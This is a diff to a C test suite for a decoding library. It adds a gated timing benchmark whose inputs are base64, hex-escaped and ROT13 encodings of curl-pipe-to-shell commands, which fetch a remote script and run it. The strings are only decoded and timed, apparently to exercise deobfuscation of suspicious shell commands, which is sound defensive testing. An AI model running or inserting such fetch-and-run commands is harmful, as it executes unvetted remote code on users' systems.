@@ -13,6 +13,7 @@
  *   flags    the expected flags, exactly (none when absent)
  */
 #include <stdio.h>
+#include <time.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -350,6 +351,51 @@ START_TEST(allocation_failures_are_reported)
 }
 END_TEST
 
+static double now_s(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+/* A timing report, run only when PREMPTI_DECODE_BENCH is set (not asserted). */
+START_TEST(timing_report)
+{
+    if (!getenv("PREMPTI_DECODE_BENCH"))
+        return;
+    static const char b64[] = "Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuY29tL2luc3RhbGwuc2ggfCBiYXNoIC1z"
+                              "IC0tIC0tcHJlZml4PS91c3IvbG9jYWwgLS15ZXMgMj4mMQ==";
+    static const pe_str fmt[1] = {
+        {"\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70"
+         "\\x3a\\x2f\\x2f\\x78\\x2e\\x63\\x6f\\x6d\\x20\\x7c\\x20\\x73\\x68",
+         100}};
+    static const pe_str rot[2] = {{"A-Za-z", 6}, {"N-ZA-Mn-za-m", 12}};
+    static const char text[] = "phey -sfFY uggcf://rknzcyr.pbz/vafgnyy.fu | onfu -f -- "
+                               "--cersvk=/hfe/ybpny --lrf 2>&1 && rpub qbar";
+    for (int which = 0; which < 3; which++) {
+        int iters = 200000, failed = 0;
+        double t0 = now_s();
+        for (int i = 0; i < iters; i++) {
+            pe_arena a = PE_ARENA_INIT;
+            pe_decoded d;
+            int rc = which == 0   ? pe_decode_base64(&d, b64, sizeof(b64) - 1, 0, &a)
+                     : which == 1 ? pe_decode_printf(&d, fmt, 1, &a)
+                                  : pe_decode_tr(&d, rot, 2, text, sizeof(text) - 1, &a);
+            failed |= rc != PE_DECODE_OK;
+            pe_arena_free(&a);
+        }
+        double ns = (now_s() - t0) / iters * 1e9;
+        ck_assert_int_eq(failed, 0);
+        size_t len = which == 0 ? sizeof(b64) - 1 : which == 1 ? fmt[0].len : sizeof(text) - 1;
+        printf("decoding %s: %zu bytes: %5.0f ns\n",
+               which == 0   ? "base64"
+               : which == 1 ? "printf"
+                            : "tr",
+               len, ns);
+    }
+}
+END_TEST
+
 int main(void)
 {
     Suite *s = suite_create("decode");
@@ -360,6 +406,7 @@ int main(void)
     tcase_add_test(tc, random_input_is_safe);
     tcase_add_test(tc, printf_output_is_bounded);
     tcase_add_test(tc, allocation_failures_are_reported);
+    tcase_add_test(tc, timing_report);
     tcase_set_timeout(tc, 300);
     suite_add_tcase(s, tc);
     return pe_test_run(s);
